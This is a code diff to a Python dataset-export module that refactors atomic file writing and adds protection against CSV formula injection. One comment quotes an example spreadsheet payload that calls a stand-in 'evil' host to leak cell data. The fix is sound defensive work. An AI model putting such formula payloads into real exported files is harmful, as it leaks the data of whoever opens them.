@@ -16,14 +16,12 @@ from __future__ import annotations
 import contextlib
 import csv
 import json
-import os
-import tempfile
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 from .errors import DuelistError
 from .preference import PreferencePair
+from .tmpfiles import atomic_file
 
 EXPORT_FORMATS = ("jsonl", "json", "csv", "parquet", "hf")
 COLUMNS = ("prompt", "chosen", "rejected", "margin", "comparison_id", "source", "annotators",
@@ -73,17 +71,9 @@ def _check_target(out: Path, fmt: str) -> None:
                                "refusing to replace it")
 
 
-@contextlib.contextmanager
-def _atomic_file(out: Path) -> Iterator[Path]:
-    fd, tmp_name = tempfile.mkstemp(prefix=f".{out.name}.tmp-", dir=out.parent)
-    os.close(fd)
-    tmp = Path(tmp_name)
-    try:
-        yield tmp
-        os.replace(tmp, out)
-    except BaseException:
-        tmp.unlink(missing_ok=True)
-        raise
+def _atomic_file(out: Path) -> contextlib.AbstractContextManager[Path]:
+    """A hidden temp file renamed onto `out`; also deletes ones a killed export left."""
+    return atomic_file(out)
 
 
 def export_pairs(pairs: list[PreferencePair], out: str | Path, fmt: str | None = None) -> str:
@@ -122,7 +112,20 @@ def _write_csv(rows: list[dict], tmp: Path) -> None:
     with tmp.open("w", encoding="utf-8", newline="") as fh:
         writer = csv.DictWriter(fh, fieldnames=COLUMNS)
         writer.writeheader()
-        writer.writerows(rows)
+        writer.writerows({k: formula_safe(v) for k, v in r.items()} for r in rows)
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula
+# (`=HYPERLINK("http://evil/?"&A1)` leaks data on click; `@SUM(...)`, `+`, `-` likewise;
+# a leading tab or CR hides the prefix). OWASP's advice: prefix such cells with `'`.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_safe(value: object) -> object:
+    """A text cell that a spreadsheet would evaluate, prefixed with `'` so it stays text."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
 
 
 def _table(rows: list[dict]):
